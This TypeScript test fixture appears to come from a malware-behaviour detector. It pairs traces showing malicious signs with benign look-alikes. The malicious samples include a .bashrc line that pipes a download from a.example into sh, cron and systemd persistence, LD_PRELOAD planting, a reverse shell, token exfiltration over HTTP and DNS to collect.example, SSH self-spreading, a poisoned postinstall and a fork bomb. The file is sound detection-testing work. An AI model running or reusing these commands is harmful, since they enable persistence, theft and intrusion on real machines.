/** For each sign what shows it, and what looks alike and must not. */
import {
  connect,
  cron,
  exec,
  fork,
  hidden,
  key,
  letters,
  manifest,
  npmrc,
  offered,
  program,
  read,
  sampleText,
  secret,
  tarball,
  write,
} from "./events.ts";
import { home, type Seen, samplePath, type Written } from "./run.ts";

export interface Pair {
  readonly rule: string;
  readonly sign: string;
  readonly shows: Written;
  /** Looks alike; must neither show the sign as harmful nor be called what the rule says. */
  readonly alike: Written;
  readonly alikeVerdict?: Seen["verdict"];
}

export const pairs: readonly Pair[] = [
  {
    rule: "stays-hidden",
    sign: "starts-hidden",
    shows: { files: { [hidden]: program, [cron]: `*/5 * * * * ${hidden}\n` } },
    alike: { files: { [cron]: "0 3 * * * find ~/.cache -mtime +30 -delete\n" } },
  },
  {
    rule: "stays-hidden",
    sign: "starts-hidden",
    shows: { files: { [`${home}/.bashrc`]: "alias ll='ls -l'\n(curl -s http://a.example/x | sh) &\n" } },
    alike: {
      before: { [`${home}/.bashrc`]: "alias ll='ls -l'\n" },
      files: {
        [`${home}/.bashrc`]: "alias ll='ls -l'\nexport EDITOR=vim\n. ~/.bash_prompt\n",
        [`${home}/.bash_prompt`]: "PS1='$ '\n",
      },
    },
  },
  {
    rule: "stays-hidden",
    sign: "starts-hidden",
    shows: {
      files: {
        [`${home}/.local/share/.helper`]: program,
        [`${home}/.config/systemd/user/h.service`]: `[Service]\nExecStart=%h/.local/share/.helper\n`,
      },
    },
    alike: {
      files: {
        [`${home}/.local/bin/fair`]: program,
        [`${home}/.config/systemd/user/fair.service`]: "[Service]\nExecStart=%h/.local/bin/fair\n",
      },
    },
    alikeVerdict: "unknown",
  },
  {
    rule: "key-planted",
    sign: "key-added",
    shows: { files: { [`${home}/.ssh/authorized_keys`]: `${key}\n` } },
    alike: {
      before: { [`${home}/.ssh/id_ed25519.pub`]: `${key}\n` },
      files: { [`${home}/.ssh/authorized_keys`]: `${key}\n` },
    },
  },
  {
    rule: "library-planted",
    sign: "preload-planted",
    shows: {
      files: {
        [`${home}/.local/lib/x.so`]: "x",
        [`${home}/.profile`]: `export LD_PRELOAD=${home}/.local/lib/x.so\n`,
      },
    },
    alike: { files: { [`${home}/.profile`]: "export LD_PRELOAD=/usr/lib/libjemalloc.so.2\n" } },
  },
  {
    rule: "library-planted",
    sign: "preload-planted",
    shows: { trace: [write("/etc/ld.so.preload", { detail: "failed EACCES" })] },
    alike: { trace: [read("/etc/ld.so.preload", { detail: "failed ENOENT" })] },
  },
  {
    rule: "rights-kept",
    sign: "setuid-set",
    shows: { trace: [{ what: "chmod", path: `${home}/helper`, detail: "4755" }] },
    alike: { trace: [{ what: "chmod", path: `${home}/helper`, detail: "0755" }] },
  },
  {
    rule: "memory-taken",
    sign: "injection",
    shows: {
      trace: [
        { what: "ptrace", detail: "ATTACH process 7" },
        { what: "ptrace", detail: "POKEDATA process 7" },
      ],
    },
    alike: {
      trace: [
        fork(101),
        { what: "ptrace", detail: "TRACEME process 0", pid: 101, ppid: 100 },
        { what: "ptrace", detail: "CONT process 101" },
      ],
    },
  },
  {
    rule: "runs-without-file",
    sign: "fileless",
    shows: { trace: [{ what: "memfd", detail: "x" }, exec("/proc/self/fd/3")] },
    alike: { trace: [{ what: "memfd", detail: "shared" }, exec("/usr/bin/true")] },
  },
  {
    rule: "shell-opened",
    sign: "shell-for-stranger",
    shows: {
      network: [{ protocol: "tcp", port: 4444, text: "sh: 0: can't access tty; job control turned off\n$ " }],
    },
    alike: {
      network: [{ protocol: "tcp", port: 2003, text: "desk.load 0.3 1700000000\n" }],
      trace: [exec("/bin/sh", { detail: "sh -c uptime" })],
    },
  },
  {
    rule: "shell-opened",
    sign: "shell-for-stranger",
    shows: {
      network: [{ protocol: "tcp", port: 9001, text: "hello" }],
      trace: [
        connect("inet 203.0.113.9 port 9001"),
        fork(101),
        exec("/bin/sh", { pid: 101, detail: "/bin/sh -i" }),
      ],
    },
    alike: {
      network: [{ protocol: "https", port: 443, text: "GET / HTTP/1.1\r\n\r\n" }],
      trace: [
        connect("inet 203.0.113.9 port 443"),
        fork(101),
        exec("/bin/sh", { pid: 101, detail: "sh -c node install.js" }),
      ],
    },
  },
  {
    rule: "mines",
    sign: "miner",
    shows: {
      network: [{ protocol: "tcp", port: 3333, text: '{"id":1,"method":"mining.subscribe","params":[]}\n' }],
    },
    alike: { network: [{ protocol: "http", text: '{"id":1,"method":"data.subscribe","params":[]}\n' }] },
  },
  {
    rule: "fetches-and-runs",
    sign: "runs-downloaded",
    shows: {
      network: [{}],
      trace: [
        fork(101, { t: 0.1 }),
        fork(102, { t: 0.11 }),
        exec("/usr/bin/curl", { pid: 101, t: 0.2 }),
        exec("/usr/bin/sh", { pid: 102, t: 0.2, detail: "sh" }),
        connect("inet 203.0.113.9 port 80", { pid: 101, t: 0.3 }),
      ],
    },
    alike: {
      network: [{}],
      trace: [
        fork(101, { t: 0.1 }),
        fork(102, { t: 0.11 }),
        exec("/usr/bin/curl", { pid: 101, t: 0.2 }),
        exec("/usr/bin/tar", { pid: 102, t: 0.2, detail: "tar xz" }),
        connect("inet 203.0.113.9 port 80", { pid: 101, t: 0.3 }),
      ],
    },
  },
  {
    rule: "fetches-and-runs",
    sign: "runs-downloaded",
    shows: {
      network: [{}],
      trace: [
        connect("inet 203.0.113.9 port 80"),
        write("/tmp/.agent"),
        exec("/tmp/.agent", { pid: 101, t: 1 }),
      ],
    },
    alike: {
      network: [{ protocol: "https", name: "registry.npmjs.org", port: 443 }],
      trace: [
        connect("inet 203.0.113.9 port 443"),
        write(`${home}/app/node_modules/x/install.js`),
        exec("/usr/bin/node", { pid: 101, t: 1 }),
        read(`${home}/app/node_modules/x/install.js`, { pid: 101, t: 1.1 }),
      ],
    },
  },
  {
    rule: "hides-and-covers",
    sign: "self-copy-hidden",
    shows: {
      sample: sampleText,
      files: { [hidden]: sampleText },
      trace: [{ what: "unlink", path: samplePath }],
    },
    alike: { sample: sampleText, files: { [`${home}/.local/bin/tool`]: sampleText } },
  },
  {
    rule: "secret-left",
    sign: "secret-sent!",
    shows: {
      ...{ honey: [secret], before: npmrc, thefts: [{ how: "sent", t: 1 }] },
      network: [{ text: "POST /x HTTP/1.1\r\n\r\nnpm_0123456789abcdef" }],
    },
    alike: {
      ...{ honey: [secret], before: npmrc, thefts: [{ how: "sent", t: 1 }] },
      network: [
        {
          ...{ protocol: "https" as const, name: "registry.npmjs.org", port: 443 },
          text: "GET /-/whoami HTTP/1.1\r\nauthorization: Bearer npm_0123456789abcdef\r\n\r\n",
        },
      ],
    },
  },
  {
    rule: "secret-left",
    sign: "secret-sent!",
    shows: {
      ...{ honey: [secret], before: npmrc, thefts: [{ how: "sent", t: 1 }] },
      // The right server, but as an article for everybody to read.
      network: [
        {
          protocol: "https",
          name: "registry.npmjs.org",
          text: 'PUT /x HTTP/1.1\r\n\r\n{"readme":"npm_0123456789abcdef"}',
        },
      ],
    },
    alike: { honey: [secret], before: npmrc, thefts: [{ how: "read", t: 1 }] },
  },
  {
    rule: "secret-left",
    sign: "secret-sent!",
    shows: {
      ...{ honey: [secret], before: npmrc },
      network: [0, 1].map((n) => ({
        ...{ protocol: "dns" as const, port: 53, t: 1 + n },
        name: `${n}-${Buffer.from(secret.needles[0]!)
          .toString("hex")
          .slice(n * 24, n * 24 + 24)}.d.collect.example`,
      })),
    },
    alike: {
      honey: [secret],
      before: npmrc,
      network: [{ protocol: "dns", port: 53, name: "registry.npmjs.org" }],
    },
  },
  {
    rule: "collected-and-sent",
    sign: "collects-credentials",
    shows: {
      thefts: ["npm-token", "aws-key", "ssh-key"].map((credential) => ({
        how: "read" as const,
        credential,
        path: `${home}/${credential}`,
        t: 0.2,
      })),
      network: [
        { sent: Buffer.from(Array.from({ length: 2000 }, (_, n) => (n * 7919 + (n >> 3) * 104729) & 255)) },
      ],
    },
    alike: {
      thefts: [{ how: "read", t: 0.2 }],
      network: [
        { sent: Buffer.from(Array.from({ length: 2000 }, (_, n) => (n * 7919 + (n >> 3) * 104729) & 255)) },
      ],
    },
  },
  {
    rule: "files-left",
    sign: "personal-sent",
    shows: { documents: letters, network: [{ text: Object.values(letters).join("") }] },
    alike: {
      documents: letters,
      before: { [`${home}/.config/safe/backup.conf`]: "server = collect.example\n" },
      trace: [read(`${home}/.config/safe/backup.conf`)],
      network: [{ text: Object.values(letters).join("") }],
    },
  },
  {
    rule: "mails-itself",
    sign: "mail-itself",
    shows: {
      sample: sampleText,
      network: [
        {
          ...{ protocol: "smtp" as const, port: 25 },
          text: `RCPT TO:<a@b.example>\r\nDATA\r\n\r\n${Buffer.from(sampleText).toString("base64").replace(/.{76}/g, "$&\r\n")}\r\n.\r\n`,
        },
      ],
    },
    alike: {
      sample: sampleText,
      network: [
        {
          protocol: "smtp",
          port: 587,
          text: "RCPT TO:<sam@b.example>\r\nDATA\r\n\r\n12 jobs ran, none failed\r\n.\r\n",
        },
      ],
    },
  },
  {
    rule: "copies-itself-over",
    sign: "spreads-by-ssh",
    shows: {
      sample: sampleText,
      network: [{ protocol: "tcp", port: 22, text: `SSH-2.0-x\r\n${sampleText}` }],
    },
    alike: {
      sample: sampleText,
      network: [{ protocol: "tcp", port: 22, text: "SSH-2.0-OpenSSH_9.2p1\r\n" }],
    },
  },
  {
    rule: "packages-poisoned",
    sign: "publishes-itself",
    shows: {
      packages: [offered],
      published: [{ content: tarball({ "package/package.json": manifest({ postinstall: "node x.js" }) }) }],
    },
    alike: {
      packages: [offered],
      before: { [`${home}/src/left/package.json`]: manifest({ test: "node test" }) },
      published: [{ content: tarball({ "package/package.json": manifest({ test: "node test" }) }) }],
    },
  },
  {
    rule: "packages-poisoned",
    sign: "publishes-itself",
    shows: {
      before: {
        [`${home}/src/left/package.json`]: manifest({}),
        [`${home}/src/right/package.json`]: manifest({}).replace("left", "right"),
      },
      published: ["left", "right"].map((name) => ({
        name,
        content: tarball({
          "package/index.js": "module.exports = 1;\n;/* the same foreign words in both of them */\n",
        }),
      })),
    },
    alike: {
      before: {
        [`${home}/src/left/package.json`]: manifest({}),
        [`${home}/src/left/index.js`]: "module.exports = function left() { return 1; };\n",
      },
      published: [
        { content: tarball({ "package/index.js": "module.exports = function left() { return 1; };\n" }) },
      ],
    },
  },
  {
    rule: "machine-exhausted",
    sign: "fork-bomb",
    shows: { trace: Array.from({ length: 200 }, (_, n) => fork(101 + n)) },
    alike: {
      trace: Array.from({ length: 200 }, (_, n) => [
        fork(101 + n, { t: n }),
        { what: "exit" as const, pid: 101 + n, t: n + 0.5 },
      ]).flat(),
    },
  },
];
